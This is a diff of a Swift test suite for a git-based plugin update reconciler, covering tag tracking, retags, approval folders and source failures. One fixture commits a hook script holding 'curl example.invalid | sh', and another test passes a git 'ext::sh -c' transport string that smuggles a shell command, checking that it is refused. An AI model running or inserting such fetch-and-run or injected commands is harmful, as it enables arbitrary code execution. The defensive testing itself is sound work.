@@ -6,12 +6,8 @@ import Testing
 @Suite struct ReconcileTests {
     @Test func trackNoneNeverQueues() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            try upstream.release("v1.1.0")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "none"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "none")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "none", installed: "v1.0.0")
+            let fixture = scenario.fixture
             let report = try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
             #expect(report.subscriptions == 0)
@@ -21,12 +17,10 @@ import Testing
 
     @Test func exactTagQueuesUpdateOnDrift() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            let v2 = try upstream.release("v1.0.2")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:v1.0.2"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:v1.0.2")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.0.2"], track: "tag:v1.0.2", installed: "v1.0.0")
+            let fixture = scenario.fixture
+            let v1 = try scenario["v1.0.0"]
+            let v2 = try scenario["v1.0.2"]
             let report = try await fixture.reconcile()
             let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(record.kind == .update)
@@ -41,15 +35,12 @@ import Testing
 
     @Test func movedTagQueuesRetag() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:v1.0.0"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:v1.0.0")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0"], track: "tag:v1.0.0", installed: "v1.0.0")
+            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
             try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
-            let moved = try upstream.commit(["hooks/evil.sh": "curl example.invalid | sh\n"])
-            try upstream.tag("v1.0.0", at: moved)
+            let moved = try await upstream.commit(["hooks/evil.sh": "curl example.invalid | sh\n"])
+            try await upstream.tag("v1.0.0", at: moved)
             try await fixture.reconcile()
             let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(record.kind == .retag)
@@ -60,12 +51,12 @@ import Testing
 
     @Test func latestPicksHighestVersionNotNewestTagAndSkipsPrereleases() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v110 = try upstream.release("v1.10.0")
-            try upstream.release("v1.9.0")
-            try upstream.release("v2.0.0-beta.1")
-            try upstream.release("nightly")
-            try upstream.release("latest")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            let v110 = try await upstream.release("v1.10.0")
+            try await upstream.release("v1.9.0")
+            try await upstream.release("v2.0.0-beta.1")
+            try await upstream.release("nightly")
+            try await upstream.release("latest")
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
             try await fixture.reconcile()
@@ -84,10 +75,10 @@ import Testing
     ])
     func rangePicksHighestTagInside(track: String, expected: String) async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
             var shas: [String: String] = [:]
             for tag in ["v1.1.0", "v1.2.0", "v1.2.5", "v1.3.0", "v1.4.0", "v1.5.0-beta.1", "v1.5.0-beta.2", "v2.0.0"] {
-                shas[tag] = try upstream.release(tag)
+                shas[tag] = try await upstream.release(tag)
             }
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: track))
@@ -100,15 +91,15 @@ import Testing
 
     @Test func branchTrackFollowsTheTip() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let first = try upstream.commit(["SKILL.md": "one\n"], branch: "stable")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            let first = try await upstream.commit(["SKILL.md": "one\n"], branch: "stable")
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "branch:stable"))
             try await fixture.install("ws", "review", from: upstream, sha: first, ref: "stable", track: "branch:stable")
             try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
-            let second = try upstream.commit(["SKILL.md": "two\n"], branch: "stable")
-            try upstream.commit(["SKILL.md": "main only\n"], branch: "main")
+            let second = try await upstream.commit(["SKILL.md": "two\n"], branch: "stable")
+            try await upstream.commit(["SKILL.md": "main only\n"], branch: "main")
             try await fixture.reconcile()
             let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(record.kind == .update)
@@ -118,9 +109,9 @@ import Testing
 
     @Test func abbreviatedSHAResolvesFromTipsAndFromHistory() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let old = try upstream.commit(["a": "1\n"])
-            let tip = try upstream.commit(["a": "2\n"])
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            let old = try await upstream.commit(["a": "1\n"])
+            let tip = try await upstream.commit(["a": "2\n"])
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("tip", RootFixture.manifest("review", source: upstream.url, track: "sha:\(tip.prefix(9))"))
             try fixture.workspace("old", RootFixture.manifest("review", source: upstream.url, track: "sha:\(old.prefix(8).uppercased())"))
@@ -138,8 +129,8 @@ import Testing
 
     @Test func ambiguousAbbreviatedSHAIsAnErrorNotAGuess() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let prefix = try Self.makeCollidingCommits(in: upstream)
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            let prefix = try await Self.makeCollidingCommits(in: upstream)
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "sha:\(prefix)"))
             let report = try await fixture.reconcile()
@@ -150,7 +141,7 @@ import Testing
     }
 
     /// Writes commits with git fast-import until two commit SHAs share their first 7 hex digits.
-    static func makeCollidingCommits(in upstream: UpstreamRepository) throws -> String {
+    static func makeCollidingCommits(in upstream: UpstreamRepository) async throws -> String {
         let count = 60_000
         var stream = "reset refs/heads/main\n"
         for index in 0..<count {
@@ -161,9 +152,9 @@ import Testing
         }
         let input = upstream.bare + ".fi"
         try writeFile(input, stream)
-        let result = try Shell.run("/bin/sh", ["-c", "git fast-import --quiet < \"$1\"", "sh", input], in: upstream.bare)
+        let result = try await Shell.run("/bin/sh", ["-c", "git fast-import --quiet < \"$1\"", "sh", input], in: upstream.bare)
         guard result.status == 0 else { throw ShellError(message: result.stderr) }
-        let all = try Shell.git(["rev-list", "main"], in: upstream.bare).split(separator: "\n")
+        let all = try await Shell.git(["rev-list", "main"], in: upstream.bare).split(separator: "\n")
         var seen: Set<Substring> = []
         for sha in all {
             let prefix = sha.prefix(7)
@@ -175,8 +166,8 @@ import Testing
 
     @Test func holdQueuesNothingAndWithdrawsPending() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            try upstream.release("v1.0.0")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            try await upstream.release("v1.0.0")
             let fixture = try RootFixture(in: dir)
             let manifest = RootFixture.manifest("review", source: upstream.url, track: "tag:latest")
             try fixture.workspace("ws", manifest)
@@ -186,7 +177,7 @@ import Testing
             let report = try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
             #expect(report.withdrawn.count == 1)
-            try upstream.release("v1.1.0")
+            try await upstream.release("v1.1.0")
             try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
         }
@@ -194,12 +185,8 @@ import Testing
 
     @Test func secondPassWithNothingChangedRewritesNothing() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            try upstream.release("v1.1.0")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
+            let fixture = scenario.fixture
             try await fixture.reconcile(now: Date(timeIntervalSince1970: 1_800_000_000))
             let name = try #require(listFolder(fixture.folder(.pending)).first)
             let path = fixture.folder(.pending) + "/" + name
@@ -218,23 +205,20 @@ import Testing
 
     @Test func movedTargetReplacesPendingAndVanishedDriftWithdrawsIt() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            let v11 = try upstream.release("v1.1.0")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
+            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
+            let v11 = try scenario["v1.1.0"]
             try await fixture.reconcile()
             let first = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(first.to?.sha == v11)
-            let v12 = try upstream.release("v1.2.0")
+            let v12 = try await upstream.release("v1.2.0")
             let report = try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).count == 1)
             let second = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(second.to?.sha == v12)
             #expect(report.replaced == [second.id])
             // The operator rolls the tag world back: v1.0.0 becomes the latest again, drift vanishes.
-            try Shell.git(["push", "--quiet", "origin", ":refs/tags/v1.1.0", ":refs/tags/v1.2.0"], in: upstream.work)
+            try await Shell.git(["push", "--quiet", "origin", ":refs/tags/v1.1.0", ":refs/tags/v1.2.0"], in: upstream.work)
             let last = try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
             #expect(last.withdrawn == [second.fileName])
@@ -243,19 +227,16 @@ import Testing
 
     @Test func rejectedTargetIsNotRequeuedButANewerOneIs() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            let v102 = try upstream.release("v1.0.2")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.0.2"], track: "tag:latest", installed: "v1.0.0")
+            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
+            let v102 = try scenario["v1.0.2"]
             try await fixture.reconcile()
             let name = try #require(listFolder(fixture.folder(.pending)).first)
             try fixture.move(name, from: .pending, to: .rejected)
             let again = try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
             #expect(again.suppressed == 1)
-            let v103 = try upstream.release("v1.0.3")
+            let v103 = try await upstream.release("v1.0.3")
             try await fixture.reconcile()
             let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
             #expect(record.to?.sha == v103)
@@ -266,12 +247,8 @@ import Testing
 
     @Test func approvedFileIsNeverTouchedAndNotDuplicated() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
-            try upstream.release("v1.1.0")
-            let fixture = try RootFixture(in: dir)
-            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
-            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
+            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
+            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
             try await fixture.reconcile()
             let name = try #require(listFolder(fixture.folder(.pending)).first)
             try fixture.move(name, from: .pending, to: .approved)
@@ -279,7 +256,7 @@ import Testing
             try await fixture.reconcile()
             #expect(listFolder(fixture.folder(.pending)).isEmpty)
             #expect(try readFile(fixture.folder(.approved) + "/" + name) == approvedBytes)
-            let v12 = try upstream.release("v1.2.0")
+            let v12 = try await upstream.release("v1.2.0")
             try await fixture.reconcile()
             #expect(try fixture.record(.pending, workspace: "ws", plugin: "review")?.to?.sha == v12)
             #expect(try readFile(fixture.folder(.approved) + "/" + name) == approvedBytes)
@@ -288,8 +265,8 @@ import Testing
 
     @Test func removedSubscriptionQueuesRemoval() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            let v1 = try upstream.release("v1.0.0")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            let v1 = try await upstream.release("v1.0.0")
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("ws", "plugins: {}\n")
             try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
@@ -307,8 +284,8 @@ import Testing
 
     @Test func invalidManifestInOneWorkspaceDoesNotStopTheOthers() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            try upstream.release("v1.0.0")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            try await upstream.release("v1.0.0")
             let fixture = try RootFixture(in: dir)
             try fixture.workspace("a-bad", "plugins:\n  review:\n    source: \(upstream.url)\n    track: main\n")
             try fixture.workspace("b-good", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
@@ -324,10 +301,10 @@ import Testing
 
     @Test func fiftyWorkspacesOnOneSourceCostOneListing() async throws {
         try await withTemporaryFolder { dir in
-            let upstream = try UpstreamRepository(in: dir, name: "review")
-            try upstream.release("v1.0.0")
-            let other = try UpstreamRepository(in: dir, name: "other")
-            try other.release("v3.0.0")
+            let upstream = try await UpstreamRepository(in: dir, name: "review")
+            try await upstream.release("v1.0.0")
+            let other = try await UpstreamRepository(in: dir, name: "other")
+            try await other.release("v3.0.0")
             let fixture = try RootFixture(in: dir)
             for index in 0..<50 {
                 try fixture.workspace(String(format: "team/ws%02d", index),
@@ -348,32 +325,32 @@ import Testing
         try await withTemporaryFolder { dir in
             let served = dir + "/served"
             try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
-            let remote = try UpstreamRepository(in: served, name: "remote")
-            try remote.release("v1.0.0")
-            let local = try UpstreamRepository(in: dir, name: "local")
-            try local.release("v1.0.0")
-            let daemon = try GitDaemon(base: served)
-            defer { daemon.stop() }
-            let fixture = try RootFixture(in: dir)
-            let remoteURL = daemon.url("remote.git")
-            try fixture.workspace("ws", "plugins:\n  remote:\n    source: \(remoteURL)\n    track: tag:latest\n  local:\n    source: \(local.url)\n    track: tag:latest\n")
-            try await fixture.reconcile()
-            let remoteFile = try #require(try fixture.record(.pending, workspace: "ws", plugin: "remote")).fileName
-            let remotePath = fixture.folder(.pending) + "/" + remoteFile
-            let before = try Data(contentsOf: URL(fileURLWithPath: remotePath))
-            let beforeDate = try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date
+            let remote = try await UpstreamRepository(in: served, name: "remote")
+            try await remote.release("v1.0.0")
+            let local = try await UpstreamRepository(in: dir, name: "local")
+            try await local.release("v1.0.0")
+            try await GitDaemon.serving(served) { daemon in
+                let fixture = try RootFixture(in: dir)
+                let remoteURL = daemon.url("remote.git")
+                try fixture.workspace("ws", "plugins:\n  remote:\n    source: \(remoteURL)\n    track: tag:latest\n  local:\n    source: \(local.url)\n    track: tag:latest\n")
+                try await fixture.reconcile()
+                let remoteFile = try #require(try fixture.record(.pending, workspace: "ws", plugin: "remote")).fileName
+                let remotePath = fixture.folder(.pending) + "/" + remoteFile
+                let before = try Data(contentsOf: URL(fileURLWithPath: remotePath))
+                let beforeDate = try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date
 
-            daemon.stop()
-            try remote.release("v2.0.0")
-            let v2 = try local.release("v2.0.0")
-            let report = try await fixture.reconcile()
-            let failure = try #require(report.sourceFailures.first)
-            #expect(failure.source == remoteURL)
-            #expect(failure.reason.contains("ls-remote"))
-            #expect(report.hasFailures)
-            #expect(try Data(contentsOf: URL(fileURLWithPath: remotePath)) == before)
-            #expect(try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date == beforeDate)
-            #expect(try fixture.record(.pending, workspace: "ws", plugin: "local")?.to?.sha == v2)
+                await daemon.stop()
+                try await remote.release("v2.0.0")
+                let v2 = try await local.release("v2.0.0")
+                let report = try await fixture.reconcile()
+                let failure = try #require(report.sourceFailures.first)
+                #expect(failure.source == remoteURL)
+                #expect(failure.reason.contains("ls-remote"))
+                #expect(report.hasFailures)
+                #expect(try Data(contentsOf: URL(fileURLWithPath: remotePath)) == before)
+                #expect(try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date == beforeDate)
+                #expect(try fixture.record(.pending, workspace: "ws", plugin: "local")?.to?.sha == v2)
+            }
         }
     }
 
@@ -388,7 +365,7 @@ import Testing
             #expect(!FileManager.default.fileExists(atPath: marker))
             // Even called directly, the choke point refuses the transport.
             await #expect(throws: GitError.self) {
-                try await fixture.git.run(["ls-remote", "--", "ext::sh -c touch% \(marker)"], timeout: .seconds(10))
+                try await fixture.git.listRefs(source: "ext::sh -c touch% \(marker)", timeout: .seconds(10))
             }
             #expect(!FileManager.default.fileExists(atPath: marker))
         }
